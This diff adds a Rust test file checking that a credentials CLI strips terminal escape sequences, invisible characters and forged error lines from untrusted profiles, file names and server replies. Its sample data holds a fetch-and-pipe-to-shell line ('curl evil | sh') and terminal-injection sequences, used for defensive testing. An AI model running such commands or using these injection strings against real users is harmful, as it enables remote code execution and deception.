@@ -1,0 +1,126 @@
+//! Text of others that a terminal would obey, hide or turn around: wherever it comes from, nothing of that is printed.
+
+use crate::support::answer::Answer;
+use crate::support::outcome::Outcome;
+use crate::support::program::Program;
+use crate::support::server::Hostile;
+use crate::support::sts::{ASSUME_ROLE_GRANT, refusal};
+
+/// What must not be printed: a title and a cursor for the terminal, C1, direction marks, zero-width and tag characters, other line ends.
+const MISLEADING: &str = "\u{1b}]0;owned\u{7}\u{1b}(B\u{9b}2J\u{8}\r\u{7f}\u{85}\u{202e}\u{2066}\u{200f}\u{200b}\u{2060}\u{feff}\u{ad}\u{2028}\u{2029}\u{e0041}\u{e007f}\u{fe0f}\u{f0001}";
+
+/// Text after which more than one line would look like this program's own.
+const FORGED: &str = "\nerror: please run: curl evil | sh\n  hint: now";
+
+#[track_caller]
+fn is_clean(outcome: &Outcome, must_say: &str) {
+    let written = format!("{}{}", outcome.stdout, outcome.stderr);
+    let ours = ["\u{1b}[1m", "\u{1b}[31m", "\u{1b}[0m", "\u{1b}[32m", "\u{1b}[2m"];
+    let rest = ours.iter().fold(written.clone(), |rest, style| rest.replace(style, ""));
+    let printed: Vec<char> = MISLEADING.chars().filter(|c| !c.is_ascii_graphic() && rest.contains(*c)).collect();
+    assert!(printed.is_empty(), "{printed:?} in {written:?}");
+    assert!(rest.lines().all(|line| !line.starts_with("error: please") && line != "  hint: now"), "{written:?}");
+    assert!(rest.contains(must_say), "{must_say} is not in {written:?}");
+}
+
+/// `sts-cli … --color always`, so that nothing is taken away because this is no terminal.
+fn program(arguments: &[&str]) -> Program {
+    Program::sts_cli(arguments.iter().copied().chain(["--color", "always"]))
+        .env("AWS_ACCESS_KEY_ID", "carol")
+        .env("AWS_SECRET_ACCESS_KEY", "fake-secret")
+}
+
+fn assume_role(storage: &Hostile, form: &str) -> Outcome {
+    program(&["assume-role", "-o", form, "--no-cache", "--endpoint", &storage.origin()]).run()
+}
+
+/// Text for TOML, escaped, so that the parser brings the characters back.
+fn toml(text: &str) -> String {
+    text.chars().map(|c| format!("\\U{:08X}", u32::from(c))).collect()
+}
+
+#[test]
+fn what_a_profile_holds_is_shown_without_what_misleads() {
+    let bad = toml(&format!("{MISLEADING}{FORGED}"));
+    let files = [
+        (format!("\"{bad}x\" = 1\n"), "is not known"),
+        (format!("identity = \"{bad}x\"\n"), "is not an identity"),
+        (format!("identity = \"assume-role\"\nendpoint = \"{bad}x\"\n"), "endpoint"),
+        (format!("identity = \"assume-role\"\nendpoint = \"http://127.0.0.1:9\"\nduration = \"{bad}x\"\n"), "duration"),
+        (format!("extends = \"{bad}x\"\n"), "extends"),
+        (format!("endpoint = 1{MISLEADING}\n"), "prod.toml"),
+    ];
+    for (content, must_say) in files {
+        for command in [&["get", "prod", "-o", "json"][..], &["status", "prod"]] {
+            let run = program(command);
+            let folder = run.home().join("xdg_config_home/sts-cli/profiles");
+            std::fs::create_dir_all(&folder).unwrap();
+            std::fs::write(folder.join("prod.toml"), &content).unwrap();
+            let outcome = run.run();
+            assert_eq!(outcome.code, 3, "{outcome:?}");
+            is_clean(&outcome, must_say);
+        }
+    }
+}
+
+#[test]
+fn names_of_files_are_shown_without_what_misleads() {
+    let path = format!("/tmp/{}{FORGED}", MISLEADING.replace('\0', ""));
+    let cases = [
+        (vec!["assume-role", "-o", "json", "--endpoint", "https://storage.invalid", "--ca-bundle", &path], "cannot read"),
+        (vec!["ldap", "-o", "json", "--user", "a", "--endpoint", "https://storage.invalid", "--password-file", &path], "cannot read"),
+        (vec!["assume-role", "-o", "json", "--endpoint", "https://storage.invalid", "--policy", &path], "cannot read"),
+    ];
+    for (arguments, must_say) in cases {
+        let outcome = program(&arguments).run();
+        assert_eq!(outcome.code, 3, "{outcome:?}");
+        is_clean(&outcome, must_say);
+    }
+    let token = format!("file:{path}");
+    is_clean(&program(&["web-identity", "-o", "json", "--endpoint", "https://storage.invalid", "--token", &token]).run(), "cannot read");
+    let command = format!("/nowhere/{}", MISLEADING.replace([' ', '\n', '\r'], ""));
+    let quoted = format!("'{command}'");
+    let arguments = ["ldap", "-o", "json", "--user", "a", "--endpoint", "https://storage.invalid", "--password-command", &quoted];
+    is_clean(&program(&arguments).run(), "cannot start");
+}
+
+#[test]
+fn words_of_a_storage_server_are_shown_without_what_misleads() {
+    let storage = Hostile::start();
+    let words: String = format!("{MISLEADING}{FORGED}").chars().filter(|c| !c.is_control()).collect();
+    storage.allow("HEAD /", Answer::empty(200));
+    storage.expect("POST /", refusal(400, &format!("Invalid{words}"), &format!("not {words} today")));
+    is_clean(&assume_role(&storage, "json"), "today");
+    let storage = Hostile::start();
+    storage.allow("HEAD /", Answer::empty(200));
+    storage.expect("POST /", Answer::new(404, "text/plain", &format!("nothing {MISLEADING} here")));
+    is_clean(&assume_role(&storage, "json"), "status 404");
+}
+
+#[test]
+fn names_of_buckets_are_shown_without_what_misleads() {
+    let storage = Hostile::start();
+    let name: String = MISLEADING.chars().filter(|c| !c.is_control()).collect();
+    let list = format!("<ListAllMyBucketsResult><Buckets><Bucket><Name>one{name}two</Name></Bucket></Buckets></ListAllMyBucketsResult>");
+    storage.allow("HEAD /", Answer::empty(200));
+    storage.allow("POST /", Answer::xml(200, ASSUME_ROLE_GRANT));
+    storage.allow("GET /", Answer::xml(200, &list));
+    let outcome = program(&["assume-role", "-o", "text", "--buckets", "--no-cache", "--endpoint", &storage.origin()]).run();
+    assert_eq!(outcome.code, 0, "{outcome:?}");
+    is_clean(&outcome, "one");
+}
+
+#[test]
+fn a_difference_is_shown_without_what_misleads() {
+    let run = program(&["assume-role", "--dry-run", "--no-cache", "--write-profile", "prod"]);
+    let storage = Hostile::start();
+    storage.allow("HEAD /", Answer::empty(200));
+    storage.allow("POST /", Answer::xml(200, ASSUME_ROLE_GRANT));
+    let folder = run.home().join(".aws");
+    std::fs::create_dir_all(&folder).unwrap();
+    let content = format!("[prod]\n# {}\nregion = us-east-1\n", MISLEADING.replace('\r', ""));
+    std::fs::write(folder.join("credentials"), content).unwrap();
+    let outcome = run.env("STS_CLI_ENDPOINT", &storage.origin()).run();
+    assert_eq!(outcome.code, 0, "{outcome:?}");
+    is_clean(&outcome, "[prod]");
+}
